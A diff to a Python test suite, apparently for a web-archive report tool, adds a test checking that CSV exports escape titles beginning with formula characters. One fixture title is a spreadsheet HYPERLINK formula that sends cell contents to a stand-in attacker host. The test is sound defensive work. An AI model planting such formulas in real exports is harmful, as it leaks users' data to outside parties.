@@ -201,6 +201,20 @@ def test_hostile_titles_urls_and_redirects_stay_inert(db_path: Path, no_network:
     assert len(rendered.find("table").find_all("tr")[2].find_all("td")) == 7  # the tass row: 7 cells
 
 
+def test_csv_cells_never_start_a_formula(db_path: Path, no_network: None) -> None:
+    """A page title like =HYPERLINK(...) must not become a live formula in a spreadsheet."""
+    build_archive(db_path, locator=URL_SOURCE)
+    with Store.open(db_path) as store:
+        add_page(store, "https://news.example/tass", '=HYPERLINK("https://evil.example/?"&A1,"click")', "text", at=NOW)
+        add_page(store, "https://news.example/interfax", "@SUM(1+1)", "text", at=NOW)
+        report = build_report(store, URL_SOURCE, now=NOW)
+    rows = {r["url"]: r for r in csv.DictReader(io.StringIO(render(report, "csv")))}
+    assert rows["https://news.example/tass"]["title"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    assert rows["https://news.example/interfax"]["title"] == "'@SUM(1+1)"
+    for row in rows.values():
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+
+
 def test_unknown_format_is_an_error(report: Report) -> None:
     assert set(FORMATS) == {"md", "html", "json", "csv"}
     with pytest.raises(ArchiverError, match="unknown report format"):
